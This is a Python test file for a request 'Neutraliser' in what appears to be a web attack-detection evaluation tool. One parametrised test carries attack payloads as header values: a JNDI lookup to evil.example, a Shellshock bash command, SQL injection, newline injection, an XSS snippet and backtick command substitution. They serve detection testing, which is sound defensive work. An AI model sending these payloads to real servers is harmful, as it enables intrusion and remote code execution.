"""After neutralising, nothing but the attack tells an attack from a benign request."""

from __future__ import annotations

import pytest
from cnaf.evaluation.neutral import Neutraliser
from cnaf.models.exchange import Exchange, Headers, Label, Request

HOST = (b"host", b"127.0.0.1:9080")
BENIGN = Exchange(
    "b", "s", Label.BENIGN,
    Request("GET", b"/?to=http%3A%2F%2F127.0.0.1%3A9080%2F",
            (HOST, (b"user-agent", b"HeadlessChrome/156"), (b"sec-ch-ua", b'"Chromium";v="156"'),
             (b"cookie", b"sid=benign"), (b"referer", b"http://127.0.0.1:9080/a"))),
)  # fmt: skip


def attack(*headers: tuple[bytes, bytes], body: bytes = b"") -> Exchange:
    return Exchange("a", "x", Label.ATTACK, Request("POST", b"/", headers, body, len(body)))


def neutral(*exchanges: Exchange) -> list[Headers]:
    return [e.request.headers for e in Neutraliser([BENIGN]).neutral(exchanges)]


def test_both_get_the_same_client_and_host() -> None:
    template = (HOST, (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0.0.0"))
    mine, theirs = neutral(BENIGN, attack(*template))
    names = {b"host", b"connection", b"user-agent", b"accept", b"accept-language",
             b"accept-encoding", b"cookie"}  # fmt: skip
    assert {h for h in mine if h[0] in names} == {h for h in theirs if h[0] in names}
    assert not [name for name, _ in mine if name.startswith(b"sec-")]


@pytest.mark.parametrize(
    "value",
    [b"${jndi:ldap://evil.example/x}", b"() { :;}; /bin/bash -c id", b"' or 1=1 -- ", b"%0aid",
     b"<svg onload=alert(1)>", b"`id`"],
)  # fmt: skip
def test_a_header_that_attacks_stays(value: bytes) -> None:
    for name in (b"user-agent", b"accept-language", b"sec-ch-ua"):
        (headers,) = neutral(attack(HOST, (name, value)))
        assert (name, value) in headers
        assert len(headers) == len(dict(headers))


@pytest.mark.parametrize(
    "client", [b"curl/8.5.0", b"sqlmap/1.8#stable (https://sqlmap.org)", b"WPScan v3 (x; y)"]
)
def test_the_name_of_a_tool_goes(client: bytes) -> None:
    (headers,) = neutral(attack(HOST, (b"user-agent", client)))
    assert dict(headers)[b"user-agent"].startswith(b"Mozilla")


def test_the_recorded_host_goes_everywhere_and_lengths_follow() -> None:
    body = b"to=http://127.0.0.1:9080/"
    sent = attack(HOST, (b"content-length", b"%d" % len(body)), body=body)
    made = Neutraliser([BENIGN]).neutral([BENIGN, sent])
    for exchange in made:
        request = exchange.request
        assert b"127.0.0.1" not in request.target + request.body + repr(request.headers).encode()
    request = made[1].request
    assert request.header(b"content-length") == b"%d" % len(request.body)
    assert request.body_size == len(request.body)


def test_own_cookies_are_kept_and_missing_ones_lent_to_attacks_only() -> None:
    own, lent = neutral(attack(HOST, (b"cookie", b"sid=' or 1")), attack(HOST))
    assert (b"cookie", b"sid=' or 1") in own
    assert (b"cookie", b"sid=benign") in lent
    bare = Exchange("c", "s", Label.BENIGN, Request("GET", b"/", (HOST,)))
    assert b"cookie" not in dict(neutral(bare)[0])
    assert neutral(attack(HOST)) == [lent]


def test_without_hosts_and_cookies_the_client_is_all_there_is() -> None:
    bare = Exchange("c", "s", Label.ATTACK, Request("GET", b"/?v=1", ()))
    (made,) = Neutraliser([]).neutral([bare])
    assert dict(made.request.headers).keys() == {
        b"host", b"connection", b"user-agent", b"accept", b"accept-language", b"accept-encoding",
    }  # fmt: skip
